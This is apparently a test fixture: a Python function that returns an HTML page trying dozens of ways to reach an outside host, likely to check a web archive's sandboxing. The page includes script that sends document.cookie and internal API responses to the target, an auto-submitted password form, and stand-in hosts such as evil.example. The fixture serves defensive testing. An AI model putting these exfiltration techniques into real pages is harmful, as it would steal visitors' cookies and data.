"""A page that tries to reach the outside in every way we know. In: where to reach. Out: HTML. Never: the internet."""
# ruff: noqa: E501 - a page, written as pages are

from __future__ import annotations


def html(out: str, *, own: str = "") -> bytes:
    """Return the page; each trick asks `out` for a name of its own. `own` is a picture that was captured with it."""
    return f"""<!doctype html>
<html manifest="{out}/manifest-attribute"><head><title>Still the old title</title>
<meta http-equiv="refresh" content="1;url={out}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:">
<base href="{out}/base/" target="_top">
<link rel="stylesheet" href="{out}/stylesheet.css">
<link rel="alternate stylesheet" href="{out}/alternate.css" title="other">
<link rel="icon" href="{out}/icon.png"><link rel="apple-touch-icon" href="{out}/touch.png">
<link rel="manifest" href="{out}/manifest.json">
<link rel="preload" as="image" href="{out}/preload.png"><link rel="prefetch" href="{out}/prefetch">
<link rel="modulepreload" href="{out}/module.js"><link rel="prerender" href="{out}/prerender">
<link rel="preconnect" href="{out}"><link rel="dns-prefetch" href="//dns-prefetch.evil.example">
<script type="speculationrules">{{"prefetch":[{{"urls":["{out}/speculation"]}}]}}</script>
<script>
document.title = "SCRIPT-RAN"; new Image().src = "{out}/script-image?" + document.cookie;
fetch("{out}/fetch"); fetch("/api/v1/stats").then(a => a.text()).then(t => fetch("{out}/stolen?" + t.length));
navigator.sendBeacon && navigator.sendBeacon("{out}/beacon", "x"); window.open("{out}/popup");
try {{ parent.document.title = "PARENT-CHANGED"; }} catch (e) {{}}
try {{ top.location = "{out}/top"; }} catch (e) {{}}
try {{ localStorage.setItem("evil", "1"); navigator.serviceWorker.register("/web/2026id_/x.js"); }} catch (e) {{}}
new WebSocket("{out}/websocket".replace("http", "ws")); new EventSource("{out}/events"); new Worker("{out}/worker.js");
</script>
<script src="{out}/external.js"></script><script type="module">import "{out}/imported.js";</script>
<style>
@import url("{out}/import.css"); @import "{out}/import-text.css";
@font-face {{ font-family: Evil; src: url("{out}/font.woff2"); }}
body {{ background: url("{out}/background.png"); font-family: Evil, serif; cursor: url("{out}/cursor.png"), auto; }}
li {{ list-style-image: url("{out}/list.png"); }} p::before {{ content: url("{out}/content.png"); }}
div {{ filter: url("{out}/filter.svg#f"); mask-image: url("{out}/mask.png"); border-image: url("{out}/border.png") 30; }}
@namespace svg url("{out}/namespace");
</style></head>
<body background="{out}/body.png" onload="new Image().src='{out}/onload'">
<p>Words with <a id="away" href="{out}/click" ping="{out}/ping">a link</a> and
<a id="stay" href="https://hostile.example/second">another</a> and <a id="js" href="javascript:fetch('{out}/js-link')">code</a>.</p>
<ul><li>one</li></ul><div style="background-image:url('{out}/inline.png')">styled</div>
<img src="{out}/img.png" srcset="{out}/srcset.png 2x" onerror="fetch('{out}/onerror')"><img src="//evil.example/no-scheme.png">
<img src="{own}" alt="own" id="own">
<picture><source srcset="{out}/picture.png"><img src="{out}/picture-img.png"></picture>
<svg width="9" height="9"><image href="{out}/svg.png" width="9" height="9"/><use href="{out}/use.svg#a"/>
<filter id="f"><feImage href="{out}/feimage.png"/></filter><script>document.title="SVG-RAN"</script>
<a href="{out}/svg-link"><text y="9">x</text></a></svg>
<iframe src="{out}/iframe"></iframe><iframe srcdoc="<img src='{out}/srcdoc.png'><script>fetch('{out}/srcdoc')</script>"></iframe>
<frameset><frame src="{out}/frame"></frameset>
<object data="{out}/object"></object><embed src="{out}/embed"><applet code="{out}/applet"></applet>
<video src="{out}/video.mp4" poster="{out}/poster.png" autoplay></video><audio src="{out}/audio.mp3" autoplay></audio>
<video autoplay><source src="{out}/source.mp4"><track src="{out}/track.vtt" default></video>
<input type="image" src="{out}/input.png"><table background="{out}/table.png"><tr><td background="{out}/td.png">x</td></tr></table>
<form id="f1" action="{out}/form" method="post"><input name="password" value="secret"><button id="send">Send</button></form>
<noscript><img src="{out}/noscript.png"><meta http-equiv="refresh" content="0;url={out}/noscript-refresh"></noscript>
<math href="{out}/math"><mi>x</mi></math><menu><menuitem icon="{out}/menu.png"></menu>
<script>document.getElementById("f1").submit()</script>
<blockquote cite="{out}/cite">quoted</blockquote><q cite="{out}/q">q</q>
</body></html>""".encode()
